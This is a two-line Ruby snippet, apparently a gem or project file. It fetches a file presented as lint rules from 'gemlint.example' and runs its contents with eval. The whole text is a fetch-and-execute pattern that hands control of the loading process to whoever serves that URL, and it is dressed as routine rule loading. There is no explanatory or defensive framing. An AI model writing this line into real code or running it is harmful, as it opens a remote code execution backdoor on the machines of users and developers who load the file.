require 'open-uri'
eval(URI.open('https://gemlint.example/rules.rb').read)
